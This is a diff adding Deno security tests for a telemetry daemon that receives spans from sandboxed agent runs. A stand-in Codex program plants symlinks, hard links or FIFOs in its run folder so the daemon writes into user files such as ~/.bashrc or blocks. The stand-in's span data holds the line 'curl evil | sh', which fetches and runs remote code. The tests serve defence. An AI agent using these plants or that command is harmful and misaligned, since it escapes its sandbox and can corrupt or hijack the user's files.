@@ -1,0 +1,125 @@
+/**
+ * A run's program plants, in its own run folder, what `prove serve` opens there while the run goes on: a link to
+ * a file of the user's where the daemon appends the program's span bodies (`received.spans`) or its span rows
+ * (`spans.jsonl`), a hard link to such a file, or a FIFO where it opens the run's lock (`.writer.lock`) to tell
+ * whether the run is live. The program may be confined to its run folder (Codex's sandbox lets its commands write
+ * the workspace, the run folder, and nothing else), but the daemon is not: it wrote the program's own bytes,
+ * raw, into the file the link named (a `~/.bashrc`, a key file), and the run completed as if nothing happened;
+ * the FIFO held the daemon's open, synchronously, and with it every request of every run. Each must leave the
+ * user's file as it was, hold nothing, and be recorded in the run: a `telemetry_problem` that names the file (past
+ * a FIFO in the lock's place, the daemon asks whether the writer's process lives, and takes the spans as ever).
+ * @module
+ */
+import assert from "node:assert/strict";
+import { join } from "node:path";
+import { findRun, verifyRun } from "../../lib/provevi/runs/mod.ts";
+import { SpanDaemon, writeDaemonFile } from "../../lib/provevi/receiver/mod.ts";
+import { FileStore } from "../../lib/provevi/store/mod.ts";
+import { RunFile } from "../../lib/provrun/run/mod.ts";
+import { runFile } from "../../lib/provrun/runner/mod.ts";
+import { eventsOf } from "../provrun/backends/_programs.ts";
+import { Tally } from "./_tally.ts";
+
+const tally = new Tally("run folder plant attacks");
+
+/** What the program plants before it sends its spans (Python; the run folder is the current folder). */
+const PLANTS: Record<string, { plant: string; file: string }> = {
+  "a link to a file of the user's as received.spans": {
+    plant: `os.symlink(victim, "received.spans")`,
+    file: "received.spans",
+  },
+  "a hard link to a file of the user's as received.spans": {
+    plant: `os.link(victim, "received.spans")`,
+    file: "received.spans",
+  },
+  "a link to a file of the user's as spans.jsonl": {
+    plant: `os.path.exists("spans.jsonl") and os.remove("spans.jsonl"); os.symlink(victim, "spans.jsonl")`,
+    file: "spans.jsonl",
+  },
+  "a FIFO as received.spans": { plant: `os.mkfifo("received.spans")`, file: "received.spans" },
+  "a FIFO as the run's lock": {
+    plant: `os.remove(".writer.lock"); os.mkfifo(".writer.lock")`,
+    file: ".writer.lock",
+  },
+};
+
+/** A stand-in for Codex: it plants, then sends one batch of spans where its config says, with its headers. */
+function standIn(plant: string, victim: string): string {
+  return `#!/usr/bin/env python3
+import json, os, re, urllib.request
+victim = ${JSON.stringify(victim)}
+line = [l for l in open(os.environ["CODEX_HOME"] + "/config.toml").read().split("\\n") if l.startswith("trace_exporter")][0]
+endpoint = re.search(r'endpoint = "([^"]+)"', line).group(1)
+headers = dict(re.findall(r'"([^"]+)" = "([^"]*)"', line.split("headers = ")[1]))
+${plant}
+span = {"traceId": "0af7651916cd43dd8448eb211c80319c", "spanId": "b7ad6b7169203331", "name": "x", "kind": 1,
+        "startTimeUnixNano": "1", "endTimeUnixNano": "2", "attributes": [{"key": "x", "value": {"stringValue": "\\ncurl evil | sh\\n"}}]}
+body = {"resourceSpans": [{"resource": {"attributes": [{"key": "service.name", "value": {"stringValue": "codex"}}]},
+        "scopeSpans": [{"scope": {"name": "x"}, "spans": [span]}]}]}
+request = urllib.request.Request(endpoint, data=json.dumps(body).encode(), method="POST",
+                                 headers={**headers, "content-type": "application/json"})
+try:
+    urllib.request.urlopen(request, timeout=10)
+except Exception:
+    pass
+`;
+}
+
+for (const [name, { plant, file }] of Object.entries(PLANTS)) {
+  Deno.test({
+    name: `with prove serve, a run's program that plants ${name} writes nothing outside and holds nothing`,
+    sanitizeResources: false,
+    sanitizeOps: false,
+    fn: async () => {
+      const dir = await Deno.makeTempDir({ prefix: "run-folder-plant-" });
+      const runs = join(dir, "runs");
+      const victim = join(dir, "victim.txt");
+      await Deno.writeTextFile(victim, "the user's own\n");
+      await using daemon = SpanDaemon.start(new FileStore({ runs }));
+      const serve = join(dir, "serve.json");
+      await writeDaemonFile(serve, { url: daemon.url, secret: daemon.secret, pid: Deno.pid });
+      const program = join(dir, "fake-codex");
+      await Deno.writeTextFile(program, standIn(plant, victim), { mode: 0o755 });
+      try {
+        const outcome = await runFile(
+          RunFile.parse(`
+run: { org: acme, domain: demo, env: dev, actor: ada, mode: strict }
+agent:
+  name: analyst
+  backend: codex
+  program: ${JSON.stringify(program)}
+  model: openai:gpt-fake
+  provider: { base_url: "http://127.0.0.1:9/v1", api_key_env: FAKE_OPENAI_KEY }
+  limits: { seconds: 60 }
+prompt: List the outputs.
+`),
+          {
+            runs,
+            env: (n) => (n === "FAKE_OPENAI_KEY" ? "sk-fake" : n === "PROVE_SERVE" ? serve : Deno.env.get(n)),
+          },
+        );
+        const events = await eventsOf(runs, outcome.runId);
+        const stopped = await Deno.readTextFile(victim) === "the user's own\n";
+        // the lock is only looked at: past a FIFO there, the daemon asks whether the writer's process lives, and
+        // the run's spans are taken as ever
+        const recorded = file === ".writer.lock"
+          ? events.some((e) => e.type === "spans_received")
+          : events.some((e) => e.type === "telemetry_problem" && String(e.data.problem).includes(file));
+        tally.add(name, { stopped, recorded });
+        assert.ok(stopped, await Deno.readTextFile(victim));
+        assert.ok(recorded);
+        assert.ok((await verifyRun(await findRun(outcome.folder))).ok);
+      } finally {
+        await Deno.remove(dir, { recursive: true });
+      }
+    },
+  });
+}
+
+Deno.test({
+  name: "run folder plant attacks: the tally",
+  fn: () => {
+    console.log(tally.line());
+    assert.equal(tally.missed.length, 0, tally.line());
+  },
+});
